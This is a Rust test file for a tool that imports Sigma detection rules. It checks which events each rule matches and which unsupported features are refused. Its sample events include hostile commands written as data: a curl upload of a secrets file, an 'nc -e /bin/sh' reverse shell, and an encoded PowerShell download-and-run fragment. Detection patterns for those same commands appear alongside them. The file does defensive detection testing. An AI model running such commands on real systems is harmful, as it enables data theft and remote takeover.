//! One or more rules of each log source, with events that they find and events that they do not; and what is refused, with its reason.

use serde_json::{Value, json};

use super::{fires, imported, loaded, reasons, rule_of, whole};
use crate::Outcome;

fn check(category: &str, detection: &str, found: &[Value], quiet: &[Value]) {
    let rules = whole(&rule_of(category, detection));
    let [rule] = rules.as_slice() else { panic!("{} rules", rules.len()) };
    let condition = &rule.form().condition;
    for event in found {
        assert!(fires(rule, std::slice::from_ref(event)), "{condition}\nshould find {event}");
    }
    for event in quiet {
        assert!(!fires(rule, std::slice::from_ref(event)), "{condition}\nshould not find {event}");
    }
}

fn command(line: &str) -> Value {
    json!({"kind": "command", "command": line})
}

#[test]
fn commands_are_found_by_program_and_line() {
    check(
        "process_creation",
        r"
  selection:
    Image|endswith: '/curl'
    CommandLine|contains:
      - ' --upload-file '
      - ' -T '
  filter:
    CommandLine|contains: 'artifacts.acme.example'
  condition: selection and not filter
",
        &[
            command("curl -T secrets.txt https://drop.example"),
            command("cd /tmp && sudo -E /usr/bin/CURL --UPLOAD-FILE a b"),
            command("bash -lc 'curl -T a b'"),
            command("A=b curl.exe -T a b"),
            json!({"kind": "tool.call", "command": "x=$(curl -T a b)"}),
        ],
        &[
            command("curl -T a https://artifacts.acme.example/a"),
            command("curly -T a b"),
            command("git commit -m 'about curl -T a'"),
            command("curl -o a b"),
            json!({"kind": "file.write", "command": "curl -T a b"}),
            json!({"kind": "tool.call", "file": "a"}),
        ],
    );
    check(
        "process_creation",
        r"
  selection:
    CommandLine|startswith: 'nc '
    CommandLine|endswith:
      - ' /bin/sh'
      - ' /bin/bash'
  condition: selection
",
        &[command("nc 10.0.0.1 4444 -e /bin/sh"), command("cd a; nc h 1 -e /bin/bash; true")],
        &[command("sync /bin/sh"), command("nc h 1 -e /bin/shx")],
    );
    check(
        "process_creation",
        r"
  selection:
    - Image|endswith: '\powershell.exe'
    - Image|endswith: '/pwsh'
  encoded:
    CommandLine|windash|contains: ' -enc '
    CommandLine|wide|base64offset|contains: 'DownloadString'
  condition: all of them
",
        &[command("powershell.exe /enc SQBFAFgAIABEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA")],
        &[command("powershell.exe /enc AAAA"), command("pwsh SQBFAFgAIABEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA")],
    );
}

#[test]
fn patterns_are_held_to_a_command_and_people_are_users() {
    check(
        "process_creation",
        r"
  selection:
    CommandLine|re: '^python3?\s.*socket'
    User|contains: 'ana'
  condition: selection
",
        &[json!({"kind": "command", "command": "true; python -c 'import socket'", "user": "Mariana"})],
        &[
            json!({"kind": "command", "command": "true; python -c 'import socket'", "user": "bob"}),
            json!({"kind": "command", "command": "grep 'python x socket' a", "user": "ana"}),
        ],
    );
}

#[test]
fn requests_are_found_by_host_path_and_numbers() {
    let request = |host: &str, path: &str| json!({"kind": "egress.http", "host": host, "path": path, "method": "POST"});
    check(
        "proxy",
        r"
  selection:
    cs-method: post
    r-dns|endswith: '.Paste.example'
    c-uri-stem|startswith: '/API/'
    c-uri-query|contains: 'key='
  condition: selection
",
        &[request("a.paste.example", "/api/new?a=b&key=1")],
        &[
            request("paste.example", "/api/new?key=1"),
            request("a.paste.example", "/api/key=1?x"),
            request("a.paste.example", "/x?/api/key=1"),
            request("a.paste.example", "/api/new"),
        ],
    );
    check(
        "webserver",
        "
  selection:
    cs-uri-query|contains: '../'
    sc-status:
      - 200
      - 206
    cs-uri-extension: php
  condition: selection
",
        &[json!({"kind": "egress.http", "path": "/a/b.PHP?f=../../etc", "status": 206})],
        &[
            json!({"kind": "egress.http", "path": "/a/b.php?f=../../etc", "status": 404}),
            json!({"kind": "egress.http", "path": "/a/b.phpx?f=../../etc", "status": 200}),
            json!({"kind": "egress.http", "path": "/a/b.php?f=../../etc"}),
        ],
    );
    check(
        "proxy",
        "
  selection:
    c-uri|startswith: 'http://'
    cs-bytes|gte: 1000
  condition: selection
",
        &[json!({"kind": "egress.http", "target": "HTTP://a.example/b", "bytes_out": 1000})],
        &[
            json!({"kind": "egress.http", "target": "https://a.example/b", "bytes_out": 1000}),
            json!({"kind": "egress.http", "target": "http://a.example/b"}),
        ],
    );
}

#[test]
fn hosts_names_and_files_are_found() {
    check(
        "network_connection",
        "
  selection:
    Initiated: 'true'
    DestinationPort: 4444
  local:
    DestinationIp|cidr:
      - 10.0.0.0/8
      - fc00::/7
  condition: selection and not local
",
        &[
            json!({"kind": "egress.http", "host": "203.0.113.9", "port": 4444}),
            json!({"kind": "egress.http", "port": 4444}),
        ],
        &[
            json!({"kind": "egress.http", "host": "10.1.2.3", "port": 4444}),
            json!({"kind": "egress.http", "host": "fd00::1", "port": 4444}),
            json!({"kind": "egress.http", "host": "203.0.113.9", "port": 443}),
        ],
    );
    check(
        "dns_query",
        "
  selection:
    QueryName|endswith:
      - .oast.example
      - .interact.example
  condition: selection
",
        &[
            json!({"kind": "dns.query", "host": "a.oast.example"}),
            json!({"kind": "egress.http", "host": "a.interact.example"}),
        ],
        &[
            json!({"kind": "dns.query", "host": "oast.example"}),
            json!({"kind": "connection", "host": "a.oast.example"}),
        ],
    );
    check(
        "file_event",
        r"
  selection:
    TargetFilename|contains|all:
      - '/.ssh/'
      - authorized_keys
  condition: selection
",
        &[json!({"kind": "file.write", "file": "/home/a/.ssh/authorized_keys"})],
        &[
            json!({"kind": "file.read", "file": "/home/a/.ssh/authorized_keys"}),
            json!({"kind": "file.write", "file": "/home/a/.ssh/known_hosts"}),
        ],
    );
    check(
        "file_delete",
        "
  selection:
    TargetFilename|endswith: '.LOG'
    exit_code|exists: false
  condition: selection
",
        &[json!({"kind": "file.delete", "file": "/var/log/a.log"})],
        &[json!({"kind": "file.delete", "file": "/var/log/a.log", "exit_code": 0})],
    );
}

#[test]
fn what_an_event_does_not_say_is_no_even_below_not() {
    let filtered = "
  selection:
    DestinationPort: 22
  filter:
    DestinationHostname|contains: GOOD
  condition: selection and not filter
";
    let says_nothing = json!({"kind": "egress.http", "port": 22});
    check(
        "network_connection",
        filtered,
        &[says_nothing],
        &[json!({"kind": "egress.http", "port": 22, "host": "good.example"})],
    );
    check(
        "proxy",
        "
  selection:
    cs-username: null
    cs-method|neq: get
    sc-status|lt: 400
  other:
    sc-status|gt: 299
  condition: selection and not other
",
        &[json!({"kind": "egress.http", "method": "PUT", "status": 200})],
        &[
            json!({"kind": "egress.http", "status": 200}),
            json!({"kind": "egress.http", "method": "GET", "status": 200}),
            json!({"kind": "egress.http", "method": "PUT"}),
            json!({"kind": "egress.http", "method": "PUT", "status": 302}),
            json!({"kind": "egress.http", "method": "PUT", "status": 200, "user": "ana"}),
        ],
    );
}

#[test]
fn selections_are_put_together_as_conditions_say() {
    let three = |condition: &str| {
        format!(
            "
  s_1: {{TargetFilename|contains: 'one'}}
  s_2: {{TargetFilename|contains: 'two'}}
  s_3: {{TargetFilename|contains: 'three'}}
  _hidden: {{TargetFilename|contains: 'never'}}
  condition: {condition}
"
        )
    };
    let file = |name: &str| json!({"kind": "file.write", "file": name});
    check("file_event", &three("1 of s_*"), &[file("two")], &[file("four")]);
    check("file_event", &three("all of s_*"), &[file("onetwothree")], &[file("onetwo")]);
    check("file_event", &three("all of them"), &[file("onetwothree")], &[file("onetwo")]);
    check("file_event", &three("2 of s_*"), &[file("onethree"), file("twothree")], &[file("three")]);
    check("file_event", &three("s_1 and not 1 of s_2*"), &[file("one")], &[file("onetwo"), file("two")]);
    check("file_event", &three("not (s_1 or s_2) and s_3"), &[file("three")], &[file("threetwo")]);
    check("file_event", &three("[s_1, s_2 and s_3]"), &[file("one"), file("twothree")], &[file("two")]);
    check("file_event", &three("s_1 or s_2 and s_3"), &[file("one")], &[file("two")]);
}

#[test]
fn what_cannot_be_expressed_is_named() {
    let check = |category: &str, detection: &str, says: &str| {
        let found = reasons(&rule_of(category, detection));
        assert_eq!(found.len(), 1, "{detection}: {found:?}");
        assert!(found[0].contains(says), "{detection}: {found:?}");
    };
    let process = |selection: &str, says: &str| {
        check("process_creation", &format!("  s: {selection}\n  condition: s\n"), says);
    };
    process("{ParentImage|endswith: '/sshd'}", "field `ParentImage` has no column");
    process("{Image: '/usr/bin/curl'}", "which folder a program lies in is not recorded");
    process("{Image|startswith: '/tmp/'}", "which folder");
    process("{Image|re: 'curl$'}", "a pattern is not looked for");
    process("{User: root}", "an account of a machine");
    process("{User|contains: AUTHORI}", "an account of a machine");
    process("{CommandLine|re: 'a(?=b)'}", "look-around");
    process("{CommandLine|re: '(^a|b)'}", "held to an end");
    process("{CommandLine|fieldref: User}", "`fieldref`");
    process("{CommandLine|expand: '%name%'}", "`expand`");
    process("{CommandLine|contains|re: a}", "two modifiers");
    process("{CommandLine|base64: 'a*'}", "wildcards is not encoded");
    process("{CommandLine|i: a}", "flags of a pattern");
    process("{CommandLine|cidr: 10.0.0.0/8}", "address in a network");
    process("{CommandLine|gt: 5}", "only numbers are more or less");
    process("{CommandLine: 1.5}", "decimal number");
    process("{CommandLine|hour: 5}", "parts of a moment");
    process("[curl, wget]", "keywords");
    process("{CommandLine: {a: b}}", "values in values");
    process("{CommandLine: []}", "it has no value");
    process("{}", "a selection is empty");
    check("network_connection", "  s: {Initiated: 'false'}\n  condition: s\n", "only events in which it is true");
    check("network_connection", "  s: {DestinationHostname: 'bücher.example'}\n  condition: s\n", "xn--");
    check("proxy", "  s: {sc-status|contains: 40}\n  condition: s\n", "a part of a number");
    check("proxy", "  s: {c-uri-query|exists: true}\n  condition: s\n", "part of the path exists");
    check("proxy", "  s: {cs-user-agent: curl}\n  condition: s\n", "field `cs-user-agent` has no column");
    check("registry_set", "  s: {TargetObject: a}\n  condition: s\n", "category registry_set");
    check("process_creation", "  s: {CommandLine: a}\n  condition: t\n", "names `t`");
    check("process_creation", "  s: {CommandLine: a}\n  condition: 1 of t*\n", "names no selection");
    check("process_creation", "  s: {CommandLine: a}\n  condition: s | near t\n", "`| near t`");
    check("process_creation", "  s: {CommandLine: a}\n  timeframe: 5m\n  condition: s\n", "nothing is counted");
    let long: Vec<String> = (0..400).map(|number| format!("word{number}word")).collect();
    process(&format!("{{CommandLine|contains: [{}]}}", long.join(", ")), "at most 4096 are read");
}

#[test]
fn a_rule_of_which_a_part_is_expressed_is_written_only_when_asked_for_and_is_off() {
    let text = rule_of(
        "process_creation",
        "  s:\n    - CommandLine|contains: wget\n    - OriginalFileName: wget.exe\n  f: {ParentImage|endswith: '/make'}\n  condition: s and not f\n",
    );
    assert_eq!(reasons(&text), ["field `OriginalFileName` has no column", "field `ParentImage` has no column"]);
    let found = imported(&text, true);
    let Outcome::Partial(written, reasons) = &found[0].outcome else { panic!("{found:?}") };
    assert_eq!(reasons.len(), 2);
    assert!(written[0].text.contains("# Left out: field `OriginalFileName` has no column\n"), "{}", written[0].text);
    let rule = loaded(&written[0].text);
    assert!(!rule.form().enabled && rule.form().condition.contains("wget"), "{:?}", rule.form());
    let nothing = rule_of("process_creation", "  s: {ParentImage: a}\n  condition: s\n");
    assert!(matches!(imported(&nothing, true)[0].outcome, Outcome::Skipped(_)));
}

#[test]
fn what_an_author_wrote_is_kept_and_stands_as_text() {
    let text = "
title: \"A {brace}\\n[[rule]]\"
id: 11111111-2222-3333-4444-555555555555
status: experimental
description: \"Line one.\\nLine '''two''' \\a.\"
author: \"Eve\\r\\n[[rule]]\"
license: MIT
references: [https://acme.example/a]
tags: [attack.execution, attack.t1059.004]
falsepositives: [Tests, Backups]
level: critical
simulation: [x]
logsource: {category: process_creation, product: linux, service: auditd}
detection:
  s: {CommandLine|cased|contains: \"it's\\n\\\"it\\\" \\\\\\\\\"}
  condition: s
";
    let found = imported(text, false);
    let Outcome::Whole(written) = &found[0].outcome else { panic!("{found:?}") };
    let (text, form) = (&written[0].text, loaded(&written[0].text).form().clone());
    assert_eq!(form.name, "sigma.a_brace_rule");
    assert_eq!((form.severity.as_str(), form.tags.as_slice()), ("critical", ["T1059.004".to_owned()].as_slice()));
    assert_eq!(form.why, "Sigma rule by Eve [[rule]], licence MIT. See https://acme.example/a");
    assert_eq!(form.false_positives, "Tests; Backups");
    assert!(form.reason.contains("Tests; Backups") && form.title == "A {{brace}} [[rule]]", "{form:?}");
    for line in [
        "# Keys that mean nothing here: simulation",
        "# Log source: category process_creation, product linux, service auditd",
        "# Status: experimental",
    ] {
        assert!(text.lines().any(|other| other == line), "{line}\n{text}");
    }
    let rule = loaded(text);
    assert!(fires(&rule, &[command("say it's\n\"it\" \\")]), "{}", form.condition);
    assert!(!fires(&rule, &[command("say IT's\n\"it\" \\")]));
}
